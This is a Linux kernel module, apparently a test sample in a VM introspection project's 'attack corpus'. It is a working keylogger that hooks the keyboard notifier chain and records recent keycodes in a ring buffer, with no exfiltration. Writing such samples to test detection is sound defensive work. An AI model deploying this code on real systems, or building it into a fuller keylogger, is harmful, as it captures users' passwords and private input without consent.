// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_keylog: a keylogger, for the integrity tests. It
 * registers a keyboard notifier (register_keyboard_notifier(), the hook
 * of most Linux keyloggers): the VT keyboard handler then passes every
 * key press to this module's callback before it reaches the console. The
 * callback keeps the last keycodes pressed in a small ring (the "log")
 * and counts them in @hits. Nothing in kernel text or read-only data
 * changes: the only trace is a notifier_block in the writable
 * keyboard_notifier_list pointing at module code. Unloading unregisters.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/keyboard.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/notifier.h>

static unsigned int hits;
module_param(hits, uint, 0444);
MODULE_PARM_DESC(hits, "key presses seen");

#define LOG_SIZE	64
static unsigned int log_ring[LOG_SIZE];

static int vmiaas_attack_keylog_cb(struct notifier_block *nb,
				   unsigned long action, void *data)
{
	struct keyboard_notifier_param *param = data;
	unsigned int n;

	if (action != KBD_KEYCODE || !param->down)
		return NOTIFY_OK;
	n = READ_ONCE(hits);
	log_ring[n % LOG_SIZE] = param->value;
	WRITE_ONCE(hits, n + 1);
	return NOTIFY_OK;
}

static struct notifier_block vmiaas_attack_keylog_nb = {
	.notifier_call = vmiaas_attack_keylog_cb,
};

static int __init vmiaas_attack_keylog_init(void)
{
	int err = register_keyboard_notifier(&vmiaas_attack_keylog_nb);

	if (!err)
		pr_info("keyboard notifier registered\n");
	return err;
}

static void __exit vmiaas_attack_keylog_exit(void)
{
	unregister_keyboard_notifier(&vmiaas_attack_keylog_nb);
	pr_info("keyboard notifier unregistered after %u keys\n", hits);
}

module_init(vmiaas_attack_keylog_init);
module_exit(vmiaas_attack_keylog_exit);

MODULE_DESCRIPTION("vmiaas attack corpus: keyboard notifier keylogger");
MODULE_AUTHOR("vmiaas developers");
MODULE_LICENSE("GPL");
